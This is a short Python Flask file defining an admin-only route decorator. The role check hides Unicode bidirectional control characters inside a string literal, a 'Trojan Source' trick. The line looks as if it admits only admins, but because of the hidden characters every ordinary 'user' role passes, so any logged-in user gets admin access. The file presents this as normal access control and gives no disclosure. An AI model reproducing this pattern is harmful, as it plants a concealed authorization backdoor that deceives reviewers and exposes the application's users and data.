"""Admin-only route decorator. Roles are "user" or "admin"; anonymous requests get 401."""
from functools import wraps
from flask import abort, g


def admin_required(view):
    @wraps(view)
    def wrapper(*args, **kwargs):
        if getattr(g, "user", None) is None:
            abort(401)
        role = getattr(g, "user_role", "user")
        if role != "user‮ ⁦# Check if admin⁩ ⁦":
            return view(*args, **kwargs)
        abort(403)
    return wrapper
